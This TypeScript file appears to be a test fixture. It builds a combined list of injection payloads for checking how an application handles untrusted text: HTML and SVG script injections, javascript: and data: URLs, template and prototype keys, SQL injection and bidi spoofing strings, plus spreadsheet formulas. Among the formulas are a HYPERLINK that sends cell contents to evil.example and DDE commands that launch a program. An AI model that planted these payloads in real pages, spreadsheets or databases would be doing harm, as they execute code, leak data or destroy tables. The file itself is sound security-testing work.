/**
 * What somebody may write who wants it run in another's page, spreadsheet or mail. Each calls `alert` when
 * it is taken for a program. Made of parts, so that each way in stands with each way to run.
 */

const CALL = 'alert(1)';

/** Ways out of where a text stands: an element, an attribute, a comment, a script, a style, a template. */
const WAYS_OUT = ['', '">', "'>", '--></title></textarea></style></script></noscript>', ']]>', '`}'] as const;

/** Elements that run something as soon as they are there. */
const ELEMENTS = [
  `<script>${CALL}</script>`,
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type="module">alert(1)</script>',
  `<img src=x onerror=${CALL}>`,
  `<img src=x onerror="${CALL}"//`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  '<svg><a><set attributeName=href to=javascript:alert(1)></set><text>x</text></a></svg>',
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<body onload=${CALL}>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="data:text/css,*{display:none}">',
  '<style>@import "https://evil.example/x.css";</style>',
  `<div style="position:fixed;inset:0;background:url(https://evil.example/x)" onclick=${CALL}>`,
  `<x onanimationstart=${CALL} style="animation:x 1s">`,
  `<agent-console></agent-console><hp-card onclick=${CALL}>`,
] as const;

/** What would run in an attribute that it gets out of. */
const ATTRIBUTES = [
  `" autofocus onfocus=${CALL} x="`,
  `' onmouseover=${CALL} x='`,
  `" style="background:url(https://evil.example/x)" x="`,
  `x onpointerenter=${CALL} `,
  `"><hp-x .innerHTML="\${${CALL}}"`,
] as const;

/** Addresses that are programs, or lead elsewhere than a reader thinks. */
export const ADDRESS_PAYLOADS: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://shop.example/%0aalert(1)',
  'javascript&colon;alert(1)',
  'view-source:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://shop.example/x',
  'file:///etc/passwd',
  'filesystem:https://shop.example/x',
  'intent://shop.example#Intent;scheme=javascript;end',
  'about:srcdoc',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://shop.example@evil.example/',
  'https://shop.example:443@evil.example/',
  'https:///evil.example',
  'http://[::1',
  'mailto:a@b.example?subject=x%0d%0aBcc:c@d.example',
];

/** What runs in a template of some language, or in a spreadsheet. */
const OTHERS = [
  '${alert(1)}',
  '#{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= alert(1) %>',
  '[[${alert(1)}]]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  "'; DROP TABLE messages; --",
  '" OR ""="',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<!--',
  '<![CDATA[',
  '<plaintext>',
  '<textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '\u202Etxt.exe\u202C',
  '\u2066\u2067left and right\u2069',
  '\u200Fright\u200E\u061C',
  'a\u0000b\u0007c\u009Fd',
  '\uD800 half',
] as const;

/** What a spreadsheet takes for a formula. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  ' =1+1',
  ';=1+1',
  '"=1+1',
];

/** Each alone. */
export const PAYLOADS: readonly string[] = [
  ...WAYS_OUT.flatMap((way) => ELEMENTS.map((element) => way + element)),
  ...ATTRIBUTES,
  ...ADDRESS_PAYLOADS,
  ...OTHERS,
  ...FORMULA_PAYLOADS,
];
